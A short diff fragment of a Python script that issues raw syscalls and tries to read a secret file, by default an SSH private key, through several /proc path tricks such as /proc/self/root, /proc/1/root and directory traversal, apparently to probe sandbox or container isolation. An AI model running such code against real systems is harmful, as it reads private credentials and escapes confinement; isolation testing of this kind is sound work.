@@ -10,7 +10,7 @@ l = ctypes.CDLL(None, use_errno=True)
 x86 = os.uname().machine == "x86_64"
 def call(n86, n64, *a):
     r = l.syscall(ctypes.c_long(n86 if x86 else n64), *a); print(n86, r, ctypes.get_errno()); return r
-target = C.get("secret_file", "/root/.ssh/id_rsa")
+target = C.get("secret_file", os.path.expanduser("~/.ssh/id_rsa"))
 for p in (f"/proc/self/root{target}", f"/proc/thread-self/root{target}", f"/proc/self/cwd/../../../../../..{target}", f"/proc/1/root{target}"):
     def look(): print(open(p).read())
     safe(look)
